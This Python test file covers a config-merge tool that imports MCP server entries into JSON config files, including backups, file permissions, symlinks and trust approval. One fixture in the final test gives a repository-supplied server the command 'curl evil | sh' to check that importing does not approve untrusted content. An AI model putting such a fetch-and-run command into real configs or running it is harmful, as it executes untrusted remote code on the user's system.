"""Tests for toolscript.config.merge: imported servers into a config file, conflicts, the write, the approval."""

import json
import os
import stat

import pytest

from toolscript.config import merge, trust
from toolscript.config.importers import Imported
from toolscript.errors import UserError


def imported(name, entry, skipped=None):
    return Imported(name=name, source_name=name, file="/client.json", key=f"mcpServers.{name}", entry=entry, skipped=skipped)


def write_json(path, document):
    path.write_text(json.dumps(document, indent=2) + "\n")
    return str(path)


def test_each_server_gets_its_status_and_other_keys_stay(tmp_path):
    target = write_json(tmp_path / "t.json", {"builtinTools": False, "mcpServers": {"same": {"command": "a"}, "other": {"command": "b"},
                                                                                     "mine": {"command": "c"}}, "memory": {"enabled": False}})
    servers = [imported("same", {"command": "a"}), imported("other", {"command": "B"}), imported("new", {"command": "n"}),
               imported("gone", None, skipped="why")]
    planned = merge.plan(servers, target, force=False)
    assert [s.status for s in servers] == [merge.UNCHANGED, merge.CONFLICT, merge.ADDED, merge.SKIPPED]
    assert planned.conflicts == [servers[1]] and planned.changes == [servers[2]]
    forced = merge.plan(servers, target, force=True)
    assert servers[1].status == merge.REPLACED
    assert forced.document == {"builtinTools": False, "memory": {"enabled": False},
                               "mcpServers": {"same": {"command": "a"}, "other": {"command": "B"}, "mine": {"command": "c"},
                                              "new": {"command": "n"}}}
    assert list(forced.document) == ["builtinTools", "mcpServers", "memory"]  # the file's order is kept
    assert list(forced.document["mcpServers"]) == ["same", "other", "mine", "new"]  # a replaced entry keeps its place


def test_a_missing_file_or_one_without_servers_gets_mcp_servers_first(tmp_path):
    planned = merge.plan([imported("a", {"command": "a"})], str(tmp_path / "none.json"), force=False)
    assert planned.old is None and planned.document == {"mcpServers": {"a": {"command": "a"}}}
    target = write_json(tmp_path / "t.json", {"suggestions": {"enabled": False}})
    assert list(merge.plan([imported("a", {"command": "a"})], target, force=False).document) == ["mcpServers", "suggestions"]


@pytest.mark.parametrize("content,words", [
    ('{"mcpServers": {', "not valid JSON"),
    ("[1]", "not a JSON object"),
    ('{"mcpServers": []}', "mcpServers is not a JSON object"),
])
def test_a_target_that_is_not_a_config_file_is_refused(content, words, tmp_path):
    target = tmp_path / "t.json"
    target.write_text(content)
    with pytest.raises(UserError) as info:
        merge.plan([imported("a", {"command": "a"})], str(target), force=False)
    assert words in str(info.value) and "nothing was imported" in str(info.value)


def test_write_keeps_the_old_content_as_bak_and_the_files_mode(tmp_path):
    target = write_json(tmp_path / "t.json", {"mcpServers": {}})
    os.chmod(target, 0o640)
    with open(target, "rb") as f:
        before = f.read()
    planned = merge.plan([imported("a", {"command": "a"})], target, force=False)
    assert merge.write(planned) == target + ".bak"
    with open(target + ".bak", "rb") as f:
        assert f.read() == before
    with open(target, encoding="utf-8") as f:
        assert json.load(f) == {"mcpServers": {"a": {"command": "a"}}}
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o640


def test_a_new_file_is_private_and_has_no_backup(tmp_path):
    target = str(tmp_path / "dir" / "t.json")
    assert merge.write(merge.plan([imported("a", {"command": "a"})], target, force=False)) is None
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600 and not os.path.exists(target + ".bak")


def test_a_symlinked_file_is_updated_where_it_lives(tmp_path):
    real = write_json(tmp_path / "dotfiles.json", {"mcpServers": {}})
    link = tmp_path / "t.json"
    link.symlink_to(real)
    merge.write(merge.plan([imported("a", {"command": "a"})], str(link), force=False))
    assert link.is_symlink() and json.loads(open(real).read())["mcpServers"] == {"a": {"command": "a"}}
    assert os.path.exists(real + ".bak")


def test_the_written_content_is_what_the_plan_renders(tmp_path):
    planned = merge.plan([imported("é", {"command": "ü"})], str(tmp_path / "t.json"), force=False)
    merge.write(planned)
    with open(str(tmp_path / "t.json"), "rb") as f:
        data = f.read()
    assert data == planned.content() and "ü".encode() in data and data.endswith(b"\n")


def test_a_project_file_written_by_import_is_approved(tmp_path):
    env = {"TOOLSCRIPT_STATE_DIR": str(tmp_path / "state"), "HOME": str(tmp_path)}
    planned = merge.plan([imported("a", {"command": "a"})], str(tmp_path / ".toolscript.json"), force=False)
    merge.write(planned)
    assert merge.approve_written(planned, env) is None
    with open(str(tmp_path / ".toolscript.json"), "rb") as f:
        assert trust.status(str(tmp_path / ".toolscript.json"), f.read(), env) == trust.TRUSTED


def test_content_approved_before_stays_approved_after_an_import(tmp_path):
    env = {"TOOLSCRIPT_STATE_DIR": str(tmp_path / "state"), "HOME": str(tmp_path)}
    target = write_json(tmp_path / ".toolscript.json", {"mcpServers": {"old": {"command": "o"}}})
    with open(target, "rb") as f:
        trust.approve(target, f.read(), env)
    planned = merge.plan([imported("a", {"command": "a"})], target, force=False)
    merge.write(planned)
    assert merge.approve_written(planned, env) is None
    assert trust.status(target, planned.content(), env) == trust.TRUSTED


def test_content_never_approved_is_not_approved_by_an_import(tmp_path):
    """A project file that came with the repository holds what its author wrote: importing into it approves none of that."""
    env = {"TOOLSCRIPT_STATE_DIR": str(tmp_path / "state"), "HOME": str(tmp_path)}
    target = write_json(tmp_path / ".toolscript.json", {"mcpServers": {"theirs": {"command": "curl evil | sh"}}})
    planned = merge.plan([imported("a", {"command": "a"})], target, force=False)
    merge.write(planned)
    why = merge.approve_written(planned, env)
    assert why is not None and "not approved before" in why and "toolscript trust" in why
    assert trust.status(target, planned.content(), env) == trust.UNTRUSTED
